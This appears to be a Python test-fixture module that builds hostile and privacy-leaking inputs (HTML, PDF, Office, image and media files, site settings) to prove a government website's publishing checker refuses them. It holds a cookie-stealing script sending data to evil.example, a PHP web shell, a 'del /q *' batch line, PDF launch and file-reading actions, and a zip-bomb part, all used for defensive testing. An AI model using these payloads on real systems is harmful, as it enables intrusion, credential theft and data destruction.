"""Issue 24's attacks: what the build used to publish because no rule knew it was bad. Each is refused by
`check` with the file (and line, where there is one) and the field named; tests/test_published.py proves
the outcomes that need a build (files no published page uses are not published)."""
from __future__ import annotations

import io
import zipfile

from support.bad_inputs import WRITE, Case, Link, Make

ART = "docs/dongtai/2017-04-26-changweihui-di3ci-huiyi.md"
BIO = "data/deputies/d0001.yaml"
ST = "data/stations/chengguan-renminlu.yaml"
S15 = "data/suggestions/18-3/15.yaml"
MK = "mkdocs.yml"
MOBILE = "13812345678"
PDF_FIX = "请用“打印为 PDF”"


def _pdf(change, name: str):
    """A one-page PDF, changed by `change(writer, page)` with pypdf's objects before it is written."""
    def make(path):
        from pypdf import PdfWriter
        writer = PdfWriter()
        page = writer.add_blank_page(200, 200)
        change(writer, page)
        with open(path, "wb") as handle:
            writer.write(handle)
    make.__name__ = f"pdf({name})"
    return make


def _g():
    from pypdf import generic
    return generic


def _action(kind: str, **more):
    g = _g()
    entries = {g.NameObject("/S"): g.NameObject(kind)}
    for key, value in more.items():
        entries[g.NameObject("/" + key)] = g.TextStringObject(value)
    return g.DictionaryObject(entries)


def _open_action(kind: str, **more):
    def change(writer, page):
        writer._root_object[_g().NameObject("/OpenAction")] = _action(kind, **more)
    return change


def _page_aa(writer, page):
    g = _g()
    page[g.NameObject("/AA")] = g.DictionaryObject({g.NameObject("/O"): _action("/JavaScript", JS="app.alert(1)")})


def _names_js(writer, page):
    g = _g()
    script = _action("/JavaScript", JS="app.alert(1)")
    tree = g.DictionaryObject({g.NameObject("/Names"): g.ArrayObject([g.TextStringObject("a"), script])})
    writer._root_object[g.NameObject("/Names")] = g.DictionaryObject(
        {g.NameObject("/JavaScript"): writer._add_object(tree)})


def _attachment(writer, page):
    writer.add_attachment("tongxunlu.txt", f"张三 {MOBILE}".encode())


def _xfa(writer, page):
    g = _g()
    writer._root_object[g.NameObject("/AcroForm")] = g.DictionaryObject(
        {g.NameObject("/Fields"): g.ArrayObject(), g.NameObject("/XFA"): g.TextStringObject("<xdp/>")})


def _annotation(subtype: str, action=None):
    def change(writer, page):
        g = _g()
        annot = g.DictionaryObject({g.NameObject("/Type"): g.NameObject("/Annot"),
                                    g.NameObject("/Subtype"): g.NameObject(subtype),
                                    g.NameObject("/Rect"): g.ArrayObject([g.NumberObject(0)] * 4)})
        if action is not None:
            annot[g.NameObject("/A")] = action
        page[g.NameObject("/Annots")] = g.ArrayObject([writer._add_object(annot)])
    return change


def _gps_jpeg() -> bytes:
    from PIL import Image
    exif = Image.Exif()
    exif.get_ifd(0x8825).update({1: "N", 2: (30.0, 15.0, 30.0), 3: "E", 4: (120.0, 10.0, 5.0)})
    out = io.BytesIO()
    Image.new("RGB", (16, 16), (120, 90, 60)).save(out, "JPEG", exif=exif)
    return out.getvalue()


def _pdf_photo(writer, page):
    g = _g()
    data = _gps_jpeg()
    image = g.StreamObject()
    image._data = data
    image.update({g.NameObject("/Type"): g.NameObject("/XObject"), g.NameObject("/Subtype"): g.NameObject("/Image"),
                  g.NameObject("/Width"): g.NumberObject(16), g.NameObject("/Height"): g.NumberObject(16),
                  g.NameObject("/ColorSpace"): g.NameObject("/DeviceRGB"),
                  g.NameObject("/BitsPerComponent"): g.NumberObject(8),
                  g.NameObject("/Filter"): g.NameObject("/DCTDecode")})
    page[g.NameObject("/Resources")] = g.DictionaryObject({g.NameObject("/XObject"): g.DictionaryObject(
        {g.NameObject("/Im0"): writer._add_object(image)})})


def _docx_base() -> bytes:
    import docx
    document = docx.Document()
    document.add_paragraph("县人大常委会会议材料")
    document.core_properties.author = "办公室"
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _docx_edit(name: str, edit):
    """A Word file made by python-docx, then changed part by part: `edit(parts)` gets and changes the
    dict of part name -> bytes (as a hostile or careless tool would leave the file)."""
    def make(path):
        with zipfile.ZipFile(io.BytesIO(_docx_base())) as archive:
            parts = {info.filename: archive.read(info) for info in archive.infolist()}
        edit(parts)
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for part, data in parts.items():
                archive.writestr(part, data)
    make.__name__ = f"docx({name})"
    return make


def _in_body(xml: str):
    def edit(parts):
        document = parts["word/document.xml"].decode()
        parts["word/document.xml"] = document.replace("<w:sectPr", xml + "<w:sectPr", 1).encode()
    return edit


def _add(name: str, data: bytes, rels: str = ""):
    def edit(parts):
        parts[name] = data
        if rels:
            key = "word/_rels/document.xml.rels"
            parts[key] = parts[key].decode().replace("</Relationships>", rels + "</Relationships>").encode()
    return edit


def _bomb(parts):
    parts["word/media/padding.xml"] = b"<a>" + b" " * (310 * 1024 * 1024) + b"</a>"


def _many_parts(parts):
    for n in range(5100):
        parts[f"customXml/item{n}.xml"] = b"<a/>"


def _pptx(text: str):
    def make(path):
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("[Content_Types].xml", '<?xml version="1.0"?>'
                             '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
            archive.writestr("ppt/slides/slide1.xml",
                             f'<p:sld xmlns:p="p" xmlns:a="a"><a:p><a:r><a:t>{text}</a:t></a:r></a:p></p:sld>')
            archive.writestr("ppt/notesSlides/notesSlide1.xml",
                             f'<p:notes xmlns:p="p" xmlns:a="a"><a:p><a:r><a:t>备注 {MOBILE}</a:t></a:r></a:p>'
                             '</p:notes>')
    make.__name__ = "pptx"
    return make


def _picture(kind: str, size=(16, 16), save_as: str | None = None, gps: bool = False):
    def make(path):
        from PIL import Image
        options = {}
        if gps:
            exif = Image.Exif()
            exif.get_ifd(0x8825).update({1: "N", 2: (30.0, 15.0, 30.0)})
            options["exif"] = exif
        mode = "L" if size[0] * size[1] > 1_000_000 else "RGB"        # a large picture, without a large test
        Image.new(mode, size, 200).save(path, save_as or kind, **options)
    make.__name__ = f"picture({kind}, {size})"
    return make


def _huge_png(path):
    """A PNG that declares 60,000 x 60,000 pixels in its header (a few bytes on disk)."""
    import struct
    import zlib
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    header = struct.pack(">IIBBBBB", 60000, 60000, 8, 2, 0, 0, 0)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00" * 100))
                     + chunk(b"IEND", b""))


def _mp4_with_place(path):
    import struct
    def box(kind, body):
        return struct.pack(">I", 8 + len(body)) + kind + body
    xyz = box(b"\xa9xyz", struct.pack(">HH", 18, 0) + b"+30.2500+120.1667/")
    path.write_bytes(box(b"ftyp", b"isom\x00\x00\x02\x00isom") + box(b"moov", box(b"udta", xyz))
                     + box(b"mdat", b"\x00" * 64))


def _mp3_with_number(path):
    comment = b"\x00chi\x00" + MOBILE.encode()
    frame = b"COMM" + len(comment).to_bytes(4, "big") + b"\x00\x00" + comment
    size = len(frame)
    syncsafe = bytes([(size >> 21) & 0x7f, (size >> 14) & 0x7f, (size >> 7) & 0x7f, size & 0x7f])
    path.write_bytes(b"ID3\x03\x00\x00" + syncsafe + frame + b"\xff\xfb" + b"\x00" * 64)


def _type_case(name: str, file: str, content: str = "x\n", fragment: str | None = None) -> Case:
    suffix = "." + file.rsplit(".", 1)[-1] if "." in file.rsplit("/", 1)[-1] else ""
    return Case(name, file, WRITE, content, "（整个文件）", fragment or f"文件类型「{suffix}」不能发布", whole=True)


NEW_ARTICLE = '---\ntitle: 县人大常委会召开主任会议\ndate: "2026-11-05"\nsource: 县人大常委会办公室\n---\n\n'
SCRIPT_PAGE = "<html><body><script>document.location='https://evil.example/?'+document.cookie</script></body></html>\n"

CASES = [
    # 1. active content as plain files of docs/: refused by type, whatever their content
    _type_case("saved-web-page-html", "docs/assets/baoming.html", SCRIPT_PAGE),
    _type_case("saved-web-page-htm", "docs/dongtai/tongzhi.htm", SCRIPT_PAGE),
    _type_case("xhtml-with-script", "docs/assets/a.xhtml",
               '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>\n'),
    _type_case("xml-with-script", "docs/assets/feed.xml",
               '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>\n'),
    _type_case("svgz-compressed-svg", "docs/assets/img/tu.svgz", "\x1f\x8b"),
    _type_case("mht-web-archive", "docs/assets/baogao.mht", "MIME-Version: 1.0\n\n<script>alert(1)</script>\n"),
    _type_case("shtml-page", "docs/assets/a.shtml", SCRIPT_PAGE),
    _type_case("hta-application", "docs/assets/a.hta", SCRIPT_PAGE),
    _type_case("flash-swf", "docs/assets/a.swf", "FWS"),
    _type_case("xsl-stylesheet", "docs/assets/a.xsl", "<xsl:stylesheet/>\n"),
    _type_case("no-extension", "docs/assets/README", "x\n", "文件类型（没有扩展名）不能发布"),
    Case("pdf-openaction-javascript", "docs/assets/tongzhi.pdf",
         Make(_pdf(_open_action("/JavaScript", JS="app.alert(1)"), "open-js")), "", "PDF 内容", "JavaScript 脚本",
         whole=True),
    Case("pdf-page-additional-action", "docs/assets/tongzhi2.pdf", Make(_pdf(_page_aa, "page-aa")), "", "PDF 内容",
         "自动执行的动作", whole=True),
    Case("pdf-launch-action", "docs/assets/tongzhi3.pdf", Make(_pdf(_open_action("/Launch", F="cmd.exe"), "launch")),
         "", "PDF 内容", "启动其他程序的动作", whole=True),
    Case("pdf-names-javascript", "docs/assets/tongzhi4.pdf", Make(_pdf(_names_js, "names-js")), "", "PDF 内容",
         "JavaScript 脚本", whole=True),
    Case("pdf-embedded-file", "docs/assets/tongzhi5.pdf", Make(_pdf(_attachment, "attachment")), "", "PDF 内容",
         "嵌入的文件", whole=True),
    Case("pdf-xfa-form", "docs/assets/tongzhi6.pdf", Make(_pdf(_xfa, "xfa")), "", "PDF 内容", "XFA", whole=True),
    Case("pdf-submit-form", "docs/assets/tongzhi7.pdf",
         Make(_pdf(_open_action("/SubmitForm", F="https://evil.example/"), "submit")), "", "PDF 内容", "提交表单",
         whole=True),
    Case("pdf-link-annotation-javascript", "docs/assets/tongzhi8.pdf",
         Make(_pdf(lambda w, p: _annotation("/Link", _action("/JavaScript", JS="app.alert(1)"))(w, p), "link-js")), "",
         "PDF 内容", "JavaScript 脚本", whole=True),
    Case("pdf-rich-media", "docs/assets/tongzhi9.pdf", Make(_pdf(_annotation("/RichMedia"), "richmedia")), "",
         "PDF 内容", "多媒体", whole=True),
    Case("pdf-file-attachment-annotation", "docs/assets/tongzhi10.pdf",
         Make(_pdf(_annotation("/FileAttachment"), "file-annot")), "", "PDF 内容", "嵌入的文件", whole=True),
    Case("pdf-goto-remote", "docs/assets/tongzhi11.pdf",
         Make(_pdf(_open_action("/GoToR", F="file:///etc/passwd"), "gotor")), "", "PDF 内容", "打开其他文件",
         whole=True),
    # 2. the theme folder
    Case("overrides-symlink-git-config", "overrides/config.txt", Link("../.git/config"), "", "（整个文件）",
         "不能使用符号链接", whole=True),
    Case("overrides-symlink-passwd", "overrides/partials/passwd.html", Link("/etc/passwd"), "", "（整个文件）",
         "不能使用符号链接", whole=True),
    Case("overrides-symlink-folder", "overrides/etc", Link("/etc"), "", "（整个文件）", "不能使用符号链接", whole=True),
    Case("overrides-text-mobile", "overrides/lianxi.txt", WRITE, f"值班电话 {MOBILE}\n", "正文", "疑似手机号码",
         at="值班电话"),
    Case("overrides-robots-mobile", "overrides/robots.txt", WRITE, f"User-agent: *\n# 联系 {MOBILE}\n", "正文",
         "疑似手机号码", at="联系"),
    Case("overrides-template-mobile", "overrides/partials/rd-footer.html", "{#- ", f"<!-- 值班 {MOBILE} -->\n{{#- ",
         "正文", "疑似手机号码", at="值班"),
    Case("overrides-css-content-idcard", "overrides/assets/x.css", WRITE,
         ".a::after { content: \"110101199003071234\"; }\n", "正文", "疑似身份证号码", at="content"),
    # 3. site settings (mkdocs.yml)
    Case("settings-masthead-link-javascript", MK, "        url: https://www.jzrd.example/",
         "        url: javascript:alert(1)", "extra.masthead.links 第1项.url", "不安全", at="url: javascript"),
    Case("settings-icp-url-javascript", MK, "    icp: 演示ICP备00000000号",
         "    icp: 演示ICP备00000000号\n    icp_url: javascript:alert(1)", "extra.footer.icp_url", "不安全",
         at="icp_url:"),
    Case("settings-beian-url-data", MK, "    icp: 演示ICP备00000000号",
         "    icp: 演示ICP备00000000号\n    beian_url: \"data:text/html,<script>alert(1)</script>\"",
         "extra.footer.beian_url", "不安全", at="beian_url:"),
    Case("settings-correction-vbscript", MK, "    correction: mailto:wangzhan@qxrd.example",
         "    correction: vbscript:msgbox(1)", "extra.footer.correction", "不安全", at="correction: vbscript"),
    Case("settings-dzjg-url-javascript", MK, "    host: 清溪县人民代表大会常务委员会办公室",
         "    dzjg_url: javascript:alert(1)\n    host: 清溪县人民代表大会常务委员会办公室", "extra.footer.dzjg_url",
         "不安全", at="dzjg_url: javascript"),
    Case("settings-dzjg-image-other-host", MK, "    host: 清溪县人民代表大会常务委员会办公室",
         "    dzjg_image: https://evil.example/dzjg.png\n    host: 清溪县人民代表大会常务委员会办公室",
         "extra.footer.dzjg_image", "必须是本站 docs/ 中的文件", at="dzjg_image: https"),
    Case("settings-emblem-other-host", MK, "    emblem: assets/img/emblem.svg",
         "    emblem: https://evil.example/logo.png", "extra.masthead.emblem", "必须是本站 docs/ 中的文件",
         at="emblem:"),
    Case("settings-emblem-protocol-relative", MK, "    emblem: assets/img/emblem.svg",
         "    emblem: //evil.example/logo.png", "extra.masthead.emblem", "必须是本站 docs/ 中的文件", at="emblem:"),
    Case("settings-emblem-missing-file", MK, "    emblem: assets/img/emblem.svg", "    emblem: assets/img/meiyou.png",
         "extra.masthead.emblem", "不在 docs/ 中", at="emblem:"),
    Case("settings-external-script", MK, "  - assets/js/search.js", "  - https://evil.example/x.js",
         "extra_javascript 第1项", "必须是本站 docs/ 中的文件", at="https://evil.example/x.js"),
    Case("settings-protocol-relative-script", MK, "  - assets/js/search.js", "  - //cdn.evil.example/x.js",
         "extra_javascript 第1项", "必须是本站 docs/ 中的文件", at="//cdn.evil"),
    Case("settings-external-stylesheet", MK, "  - assets/css/renda.css", "  - https://evil.example/x.css",
         "extra_css 第1项", "必须是本站 docs/ 中的文件", at="https://evil.example/x.css"),
    Case("settings-web-font", MK, "  font: false", "  font:\n    text: Noto Sans SC", "theme.font", "必须为 false",
         at="font:"),
    Case("settings-favicon-other-host", MK, "  favicon: assets/favicon.svg",
         "  favicon: https://evil.example/favicon.ico", "theme.favicon", "必须是本站 docs/ 中的文件", at="favicon:"),
    Case("settings-logo-other-host", MK, "  favicon: assets/favicon.svg",
         "  favicon: assets/favicon.svg\n  logo: http://evil.example/logo.png", "theme.logo",
         "必须是本站 docs/ 中的文件", at="logo:"),
    Case("settings-analytics", MK, "extra:\n", "extra:\n  analytics:\n    provider: google\n    property: G-XXXX\n",
         "extra.analytics", "不能使用网站统计", at="analytics:"),
    Case("settings-edit-uri-javascript", MK, "docs_dir: docs", "docs_dir: docs\nedit_uri: javascript:alert(1)",
         "edit_uri", "只能是 http(s) 网址", at="edit_uri:"),
    Case("settings-repo-url-javascript", MK, "docs_dir: docs", "docs_dir: docs\nrepo_url: javascript:alert(1)",
         "repo_url", "只能是 http(s) 网址", at="repo_url:"),
    Case("settings-site-url-javascript", MK, "site_url: https://www.qxrd.example/", "site_url: javascript:alert(1)//",
         "site_url", "http(s) 网址", at="site_url: javascript"),
    Case("settings-homepage-javascript", MK, "extra:\n", "extra:\n  homepage: javascript:alert(1)\n", "extra.homepage",
         "不安全", at="homepage:"),
    Case("settings-contact-protocol-relative", MK, "    contact: wangzhan/lianxi.md",
         "    contact: //evil.example/lianxi", "extra.footer.contact", "完整的 https:// 网址", at="contact:"),
    Case("settings-copyright-mobile", MK, "docs_dir: docs",
         f"docs_dir: docs\ncopyright: 清溪县人大常委会 值班 {MOBILE}", "copyright", "疑似手机号码", at="copyright:"),
    Case("settings-footer-phone-mobile", MK, "    phone: 0000-0000000", f"    phone: {MOBILE}", "extra footer phone",
         "疑似手机号码", at="phone:"),
    Case("settings-extra-css-missing", MK, "  - assets/css/renda.css", "  - assets/css/meiyou.css", "extra_css 第1项",
         "不在 docs/ 中", at="assets/css/meiyou.css"),
    # 4. what a reader reads, not what the editor typed
    Case("mobile-split-by-inline-tag", ART, "\n---\n", "\n---\n\n值班电话 138<span>1234</span>5678。\n", "正文",
         "疑似手机号码", at="值班电话"),
    Case("mobile-split-by-comment", ART, "\n---\n", "\n---\n\n值班电话 138<!-- 备注 -->12345678。\n", "正文",
         "疑似手机号码", at="值班电话"),
    Case("mobile-decimal-references", ART, "\n---\n", "\n---\n\n值班电话 &#49;&#51;&#56;12345678。\n", "正文",
         "疑似手机号码", at="值班电话"),
    Case("mobile-hex-references", ART, "\n---\n", "\n---\n\n值班电话 &#x31;&#x33;&#x38;1234&#x35;678。\n", "正文",
         "疑似手机号码", at="值班电话"),
    Case("mobile-invisible-separator", ART, "\n---\n", "\n---\n\n值班电话 138\u20631234\u20635678。\n", "正文",
         "疑似手机号码", at="值班电话"),
    Case("mobile-bidi-marks", ART, "\n---\n", "\n---\n\n值班电话 138\u200e1234\u202c5678。\n", "正文", "疑似手机号码",
         at="值班电话"),
    Case("mobile-word-joiner-reference", ART, "\n---\n", "\n---\n\n值班电话 138&#8288;&#8203;&#173;12345678。\n",
         "正文", "疑似手机号码", at="值班电话"),
    Case("mobile-split-by-emphasis", ART, "\n---\n", "\n---\n\n值班电话 138**1234**5678。\n", "正文", "疑似手机号码",
         at="值班电话"),
    Case("mobile-split-by-link", ART, "\n---\n",
         "\n---\n\n值班电话 [138](2017-04-26-changweihui-di3ci-huiyi.md)12345678。\n", "正文", "疑似手机号码",
         at="值班电话"),
    Case("mobile-split-by-code", ART, "\n---\n", "\n---\n\n值班电话 `138`12345678。\n", "正文", "疑似手机号码",
         at="值班电话"),
    Case("mobile-in-html-comment", ART, "\n---\n", f"\n---\n\n<!-- 联系人张三 {MOBILE} -->\n", "正文", "疑似手机号码",
         at="联系人张三"),
    Case("mobile-in-alt-text", ART, "\n---\n", f'\n---\n\n<img src="../assets/img/emblem.svg" alt="张三 {MOBILE}">\n',
         "正文", "疑似手机号码", at="alt="),
    Case("mobile-in-tel-link", ART, "\n---\n", f"\n---\n\n[联系我们](tel:{MOBILE})\n", "正文", "疑似手机号码",
         at="联系我们"),
    Case("mobile-comment-over-lines", ART, "\n---\n", "\n---\n\n值班电话 138\n<!-- 注\n释 -->\n12345678。\n", "正文",
         "疑似手机号码", at="值班电话"),
    Case("idcard-split-by-markup", ART, "\n---\n", "\n---\n\n证件 110101<b>1990</b>0307<!-- -->1234。\n", "正文",
         "疑似身份证号码", at="证件"),
    Case("mobile-in-bio-markup", BIO, "bio: |\n", "bio: |\n  联系电话 138<!-- -->1234 5678\n", "bio", "疑似手机号码",
         at="bio: |"),
    _type_case("contact-card-vcf", "docs/assets/zhangsan.vcf", f"BEGIN:VCARD\nFN:张三\nTEL:{MOBILE}\nEND:VCARD\n"),
    _type_case("calendar-ics", "docs/assets/huiyi.ics", f"BEGIN:VCALENDAR\nDESCRIPTION:联系 {MOBILE}\nEND:VCALENDAR\n"),
    _type_case("rich-text-rtf", "docs/assets/tongzhi.rtf", f"{{\\rtf1 联系 {MOBILE}}}\n"),
    _type_case("ofd-document", "docs/assets/gongwen.ofd", "PK"),
    _type_case("legacy-word-doc", "docs/assets/cailiao.doc", "\xd0\xcf"),
    _type_case("legacy-excel-xls", "docs/assets/mingdan.xls", "\xd0\xcf"),
    _type_case("legacy-powerpoint-ppt", "docs/assets/huibao.ppt", "\xd0\xcf"),
    _type_case("wps-document", "docs/assets/cailiao.wps", "\xd0\xcf"),
    _type_case("word-with-macros-docm", "docs/assets/cailiao.docm", "PK"),
    _type_case("backup-bak", "docs/dongtai/2017-04-26-changweihui-di3ci-huiyi.md.bak", "旧稿\n"),
    _type_case("windows-thumbnail-cache", "docs/assets/img/Thumbs.db", "\xd0\xcf"),
    _type_case("windows-desktop-ini", "docs/assets/desktop.ini", "[.ShellClassInfo]\n"),
    _type_case("archive-zip", "docs/assets/cailiao.zip", "PK"),
    _type_case("archive-rar", "docs/assets/cailiao.rar", "Rar!"),
    _type_case("email-eml", "docs/assets/laixin.eml", f"From: 张三\n\n电话 {MOBILE}\n"),
    _type_case("outlook-msg", "docs/assets/laixin.msg", "\xd0\xcf"),
    _type_case("json-data-file", "docs/assets/mingdan.json", f'{{"phone": "{MOBILE}"}}\n'),
    _type_case("yaml-in-docs", "docs/assets/mingdan.yaml", f"phone: {MOBILE}\n"),
    _type_case("program-exe", "docs/assets/setup.exe", "MZ"),
    _type_case("batch-file", "docs/assets/run.bat", "del /q *\n"),
    _type_case("php-script", "docs/assets/x.php", "<?php system($_GET['c']); ?>\n"),
    Case("docx-text-box-mobile", "docs/assets/wenbenkuang.docx",
         Make(_docx_edit("textbox", _in_body(
             '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox><w:txbxContent>'
             f'<w:p><w:r><w:t>联系 {MOBILE}</w:t></w:r></w:p>'
             '</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>'))),
         "", "文件内部 word/document.xml", "疑似手机号码", whole=True),
    Case("docx-tracked-deletion-mobile", "docs/assets/xiuding.docx",
         Make(_docx_edit("deletion", _in_body(
             f'<w:p><w:del w:id="1" w:author="张三"><w:r><w:delText>电话 {MOBILE}</w:delText></w:r></w:del></w:p>'))),
         "", "文件内部 word/document.xml", "疑似手机号码", whole=True),
    Case("docx-tracked-insertion-split", "docs/assets/xiuding2.docx",
         Make(_docx_edit("insertion", _in_body(
             '<w:p><w:r><w:t>电话 138</w:t></w:r><w:ins w:id="2" w:author="李四"><w:r><w:t>1234</w:t></w:r></w:ins>'
             '<w:r><w:t>5678</w:t></w:r></w:p>'))),
         "", "文件内部 word/document.xml", "疑似手机号码", whole=True),
    Case("docx-field-code-mobile", "docs/assets/yu.docx",
         Make(_docx_edit("field", _in_body(
             f'<w:p><w:r><w:instrText>HYPERLINK "tel:{MOBILE}"</w:instrText></w:r></w:p>'))),
         "", "文件内部 word/document.xml", "疑似手机号码", whole=True),
    Case("docx-endnote-mobile", "docs/assets/weizhu.docx",
         Make(_docx_edit("endnote", _add(
             "word/endnotes.xml",
             f'<w:endnotes xmlns:w="w"><w:endnote><w:p><w:r><w:t>{MOBILE}</w:t></w:r></w:p>'
             '</w:endnote></w:endnotes>'.encode()))),
         "", "文件内部 word/endnotes.xml", "疑似手机号码", whole=True),
    Case("docx-custom-xml-mobile", "docs/assets/zidingyi.docx",
         Make(_docx_edit("customxml", _add("customXml/item1.xml", f"<root><phone>{MOBILE}</phone></root>".encode()))),
         "", "文件内部 customXml/item1.xml", "疑似手机号码", whole=True),
    Case("docx-macro-project", "docs/assets/hong.docx",
         Make(_docx_edit("vba", _add("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"))), "",
         "文件内部 word/vbaProject.bin", "含有宏", whole=True),
    Case("docx-embedded-object", "docs/assets/qianru.docx",
         Make(_docx_edit("ole", _add("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"))), "",
         "文件内部 word/embeddings/oleObject1.bin", "嵌入的对象", whole=True),
    Case("docx-embedded-workbook", "docs/assets/qianru2.docx",
         Make(_docx_edit("xlsx-in-docx", _add("word/embeddings/Microsoft_Excel_Worksheet.xlsx", b"PK"))), "",
         "文件内部 word/embeddings/Microsoft_Excel_Worksheet.xlsx", "嵌入的对象", whole=True),
    Case("docx-alt-chunk-web-page", "docs/assets/wangye.docx",
         Make(_docx_edit("afchunk", _add("word/afchunk.mht", b"<script>alert(1)</script>"))),
         "", "文件内部 word/afchunk.mht", "嵌入的网页", whole=True),
    Case("docx-external-image", "docs/assets/waibu.docx",
         Make(_docx_edit("remote-image", _add(
             "word/dummy.xml", b"<a/>",
             '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"'
             ' Target="https://evil.example/t.png" TargetMode="External"/>'))),
         "", "文件内部 word/_rels/document.xml.rels", "会访问其他网站", whole=True),
    Case("docx-remote-template", "docs/assets/moban.docx",
         Make(_docx_edit("template", _add(
             "word/dummy.xml", b"<a/>",
             '<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/'
             'officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" '
             'TargetMode="External"/>'))),
         "", "文件内部 word/_rels/document.xml.rels", "会访问其他网站", whole=True),
    Case("docx-unknown-binary-part", "docs/assets/qita.docx",
         Make(_docx_edit("binary", _add("word/secret.dat", b"\x00\x01"))), "",
         "文件内部 word/secret.dat", "无法检查的内部文件", whole=True),
    Case("pptx-notes-mobile", "docs/assets/huibao.pptx", Make(_pptx("工作汇报")), "",
         "文件内部 ppt/notesSlides/notesSlide1.xml", "疑似手机号码", whole=True),
    Case("xlsx-hidden-sheet-mobile", "docs/assets/yincang.xlsx", Make(lambda path: _hidden_sheet(path)), "", "隐藏!A1",
         "疑似手机号码", whole=True),
    # 5. pictures and their metadata
    Case("photo-jfif-spelling", "docs/assets/img/huichang.jfif", Make(_picture("JPEG", gps=True)), "", "（整个文件）",
         "请把扩展名改为 .jpg", whole=True),
    Case("photo-jpe-spelling", "docs/assets/img/huichang.jpe", Make(_picture("JPEG", gps=True)), "", "（整个文件）",
         "请把扩展名改为 .jpg", whole=True),
    Case("photo-tiff", "docs/assets/img/saomiao.tif", Make(_picture("TIFF", gps=True)), "", "（整个文件）",
         "另存为 JPG 或 PNG", whole=True),
    Case("photo-tiff-long", "docs/assets/img/saomiao.tiff", Make(_picture("TIFF")), "", "（整个文件）",
         "另存为 JPG 或 PNG", whole=True),
    Case("photo-heic", "docs/assets/img/shouji.heic", Make(_picture("PNG", save_as="PNG")), "", "（整个文件）",
         "另存为 JPG 或 PNG", whole=True),
    Case("photo-bmp", "docs/assets/img/saomiao.bmp", Make(_picture("BMP")), "", "（整个文件）", "另存为 JPG 或 PNG",
         whole=True),
    Case("docx-photo-with-gps", "docs/assets/zhaopian.docx", Make(_docx_edit("gps-photo", _add("word/media/image1.jpeg",
                                                                                               _gps_jpeg()))), "",
         "文件内部 word/media/image1.jpeg", "拍摄地点", whole=True),
    Case("pdf-photo-with-gps", "docs/assets/zhaopian.pdf", Make(_pdf(_pdf_photo, "gps-photo")), "", "PDF 中的图片",
         "拍摄地点", whole=True),
    Case("picture-format-mismatch", "docs/assets/img/tubiao.png", Make(_picture("JPEG")), "", "（整个文件）",
         "与扩展名不符", whole=True),
    Case("picture-is-a-web-page", "docs/assets/img/zhaopian.jpg", WRITE, SCRIPT_PAGE, "（整个文件）",
         "不是能打开的图片文件", whole=True),
    Case("video-is-a-web-page", "docs/assets/video/huiyi.mp4", WRITE, SCRIPT_PAGE, "（整个文件）",
         "与扩展名「.mp4」不符", whole=True),
    Case("audio-is-a-web-page", "docs/assets/yinpin.mp3", WRITE, SCRIPT_PAGE, "（整个文件）", "与扩展名「.mp3」不符",
         whole=True),
    Case("font-is-a-web-page", "docs/assets/fonts/song.woff2", WRITE, SCRIPT_PAGE, "（整个文件）",
         "与扩展名「.woff2」不符", whole=True),
    Case("video-with-place", "docs/assets/video/huiyi.mp4", Make(_mp4_with_place), "", "（整个文件）", "拍摄地点",
         whole=True),
    Case("audio-tag-mobile", "docs/assets/yinpin.mp3", Make(_mp3_with_number), "", "音频标签", "疑似手机号码",
         whole=True),
    # 7. pictures from another host in Markdown fields of records
    Case("station-intro-remote-image", ST, "intro: |\n", "intro: |\n  ![联络站](https://evil.example/t.png)\n", "intro",
         "不能引用其他网站的图片", at="intro: |"),
    Case("suggestion-text-remote-image", S15, "text: |\n", "text: |\n  ![现场](https://evil.example/t.png)\n", "text",
         "不能引用其他网站的图片", at="text: |"),
    Case("bio-remote-image", BIO, "bio: |\n", "bio: |\n  ![照片](http://evil.example/t.png)\n", "bio",
         "不能引用其他网站的图片", at="bio: |"),
    Case("bio-protocol-relative-image", BIO, "bio: |\n", "bio: |\n  ![照片](//evil.example/t.png)\n", "bio",
         "不能引用其他网站的图片", at="bio: |"),
    Case("site-intro-remote-image", "data/site.yaml", "intro: |\n", "intro: |\n  ![图](https://evil.example/t.png)\n",
         "intro", "不能引用其他网站的图片", at="intro: |"),
    Case("body-protocol-relative-image", ART, "\n---\n", '\n---\n\n<img src="//evil.example/t.png" alt="图">\n', "正文",
         "必须是本站 docs/ 中的文件", at="evil"),
    Case("body-markdown-protocol-relative-image", ART, "\n---\n", "\n---\n\n![现场](//evil.example/t.png)\n", "正文",
         "必须是本站 docs/ 中的文件", at="evil"),
    Case("body-reference-protocol-relative-image", ART, "\n---\n", "\n---\n\n![现场][p]\n\n[p]: //evil.example/t.png\n",
         "正文", "必须是本站 docs/ 中的文件", at="[p]: //evil"),
    Case("body-autolink-javascript", ART, "\n---\n", "\n---\n\n第一段。\n\n<javascript:alert(1)>\n", "正文",
         "不在允许的 HTML 范围内", at="<javascript:"),
    Case("body-picture-srcset", ART, "\n---\n",
         '\n---\n\n<picture><source srcset="https://evil.example/t.webp"><img src="../assets/img/emblem.svg" '
         'alt="图"></picture>\n',
         "正文", "srcset", at="srcset"),
    Case("body-video-poster-remote", ART, "\n---\n",
         '\n---\n\n<video src="../assets/a.mp4" poster="https://evil.example/p.jpg"></video>\n', "正文",
         "必须是本站 docs/ 中的文件", at="poster"),
    Case("body-track-remote", ART, "\n---\n",
         '\n---\n\n<video src="../assets/a.mp4"><track src="https://evil.example/t.vtt"></video>\n', "正文",
         "必须是本站 docs/ 中的文件", at="track"),
    Case("body-reference-image-remote", ART, "\n---\n", "\n---\n\n![图][t]\n\n[t]: https://evil.example/t.png\n",
         "正文", "必须是本站 docs/ 中的文件", at="[t]: https"),
    # found by this work's own probe, beyond the issue's classes
